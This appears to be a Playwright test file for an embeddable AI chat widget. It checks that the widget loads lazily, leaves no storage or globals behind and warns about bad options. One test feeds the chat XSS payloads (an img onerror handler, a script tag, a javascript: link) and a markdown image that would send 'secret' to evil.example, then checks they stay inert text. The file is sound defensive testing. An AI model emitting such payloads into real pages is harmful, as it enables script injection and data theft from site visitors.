"""The widget as a guest on the page: nothing before it is wanted, nothing after it is gone."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

from bubble import Bubble
from conftest import open_shop
from playwright.sync_api import BrowserContext, Page, Request, expect
from stack import HOST, Stack

_TRACES = """() => ({
    globals: Object.getOwnPropertyNames(window).filter((name) => !(name in document.createElement('iframe'))).sort(),
    nodes: document.documentElement.outerHTML,
    storage: [...Object.keys(localStorage), ...Object.keys(sessionStorage)].sort(),
    scroll: [scrollX, scrollY],
    title: document.title,
})"""


def test_before_it_is_wanted_only_the_launcher_is_fetched(context: BrowserContext, stack: Stack) -> None:
    page = context.new_page()
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))
    page.goto(stack.site + "/")
    chat = Bubble(page)
    expect(chat.launcher).to_be_visible()
    page.wait_for_timeout(300)
    ours = [request.url for request in asked if request.url.startswith(stack.widget_origin)]
    assert ours == [f"{stack.widget_origin}/api/ai/widget.js"]
    assert page.evaluate("() => [localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]


def test_who_has_just_come_has_no_storage_looked_into(context: BrowserContext, stack: Stack) -> None:
    context.add_init_script(
        """{
            const { get } = Object.getOwnPropertyDescriptor(window, 'localStorage');
            window.looks = 0;
            Object.defineProperty(window, 'localStorage', { get() { looks++; return get.call(window); } });
        }"""
    )
    page = open_shop(context, stack)
    assert page.evaluate("looks") == 0
    page.reload()
    Bubble(page).launcher.wait_for()
    assert page.evaluate("looks") == 1
    page.evaluate("address => { location.href = address; }", f"{stack.site}/?next")
    page.wait_for_url("**/?next")
    Bubble(page).launcher.wait_for()
    assert page.evaluate("looks") == 1


def test_the_chat_is_fetched_when_the_pointer_comes_near(page: Page) -> None:
    chat = Bubble(page)
    with page.expect_response(lambda response: "/assets/chat." in response.url) as fetched:
        chat.launcher.hover()
    assert fetched.value.ok
    expect(chat.panel).to_be_hidden()


def test_nothing_is_stored_until_a_question_is_asked(page: Page) -> None:
    chat = Bubble(page).open()
    assert page.evaluate("() => localStorage.length + sessionStorage.length") == 0
    chat.ask("say: Now.")
    expect(chat.answers.last).to_have_text("Now.")
    assert page.evaluate("() => document.cookie") == ""


def test_destroy_leaves_nothing(context: BrowserContext, stack: Stack) -> None:
    page = context.new_page()
    page.route("**/widget.js", lambda route: route.fulfill(body="", content_type="text/javascript"))
    page.goto(stack.site + "/")
    before = page.evaluate(_TRACES)
    page.unroute("**/widget.js")
    page.goto(stack.site + "/")
    Bubble(page).open()
    page.evaluate("() => Chatbubble('destroy')")
    expect(page.locator("chat-bubble")).to_have_count(0)
    assert page.evaluate(_TRACES) == before


def test_including_it_twice_is_harmless(context: BrowserContext, stack: Stack) -> None:
    page = open_shop(context, stack)
    page.evaluate(
        """async () => {
            const again = document.createElement('script');
            again.setAttribute('async', '');
            const loaded = new Promise((resolve) => again.addEventListener('load', resolve));
            const old = document.querySelector('script[src$="widget.js"]');
            old.parentNode.insertBefore(old.cloneNode(), old);
            again.remove();
        }"""
    )
    page.wait_for_timeout(300)
    expect(page.locator("chat-bubble")).to_have_count(1)


def test_hostile_answers_stay_text(context: BrowserContext, page: Page, stack: Stack) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    chat = Bubble(page).open()
    chat.ask(
        "say: <img src=x onerror=alert(1)> <script>alert(2)</script> [a](javascript:alert(3)) "
        "![pixel](https://evil.example/p.png?q=secret) [fine](https://shop.example/a)"
    )
    expect(chat.answers.last.get_by_role("link", name="fine")).to_have_attribute("href", "https://shop.example/a")
    bubble = chat.answers.last
    expect(bubble).to_contain_text("<img src=x onerror=alert(1)> <script>alert(2)</script>")
    for tag in ("img", "script", "iframe", "[href^='javascript' i]"):
        expect(bubble.locator(tag)).to_have_count(0)
    assert not [url for url in asked if "evil.example" in url]


def test_the_global_opens_and_asks(page: Page) -> None:
    page.evaluate("() => { Chatbubble('open'); Chatbubble('ask', 'say: Asked by the page.'); }")
    chat = Bubble(page)
    expect(chat.answers.last).to_have_text("Asked by the page.")
    page.evaluate("() => Chatbubble('close')")
    expect(chat.panel).to_be_hidden()


def test_a_page_that_asks_something_else_than_a_text_is_told_so(page: Page, context: BrowserContext) -> None:
    context.expected_errors.append("Chatbubble: ask takes a text")  # type: ignore[attr-defined]
    with page.expect_console_message(lambda message: "Chatbubble: ask takes" in message.text):
        page.evaluate("() => Chatbubble('ask', {text: 'Hi'})")
    expect(Bubble(page).questions).to_have_count(0)


@contextmanager
def other_site(html: str) -> Iterator[str]:
    """The address of a page of somebody else's, on a server of its own."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_: object) -> None:
            """Nothing to tell."""

    server = ThreadingHTTPServer((HOST, 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://{HOST}:{server.server_port}/"
    server.shutdown()
    server.server_close()


def test_a_wrong_option_is_named_and_has_no_effect(context: BrowserContext, stack: Stack) -> None:
    # The site is not allowed to use the chat, so its requests fail too.
    context.expected_errors += ["Chatbubble: data-", "Failed to load resource", "CORS"]  # type: ignore[attr-defined]
    page = context.new_page()
    tag = (
        f'<script async src="{stack.widget_origin}/api/ai/widget.js" data-theme="pink" data-position="middle"></script>'
    )
    with other_site(f"<!doctype html><html lang=en><link rel=icon href=data:,><title>Odd</title><body>{tag}") as site:
        page.goto(site)
        with page.expect_console_message(lambda message: "Chatbubble: " in message.text) as warning:
            Bubble(page).open()
    host = page.locator("chat-bubble")
    box = host.locator("[part=launcher]").bounding_box()
    assert box is not None
    assert box["y"] > 400
    assert [line.split(" takes ")[0] for line in warning.value.text.splitlines()] == [
        "Chatbubble: data-theme",
        "Chatbubble: data-position",
    ]
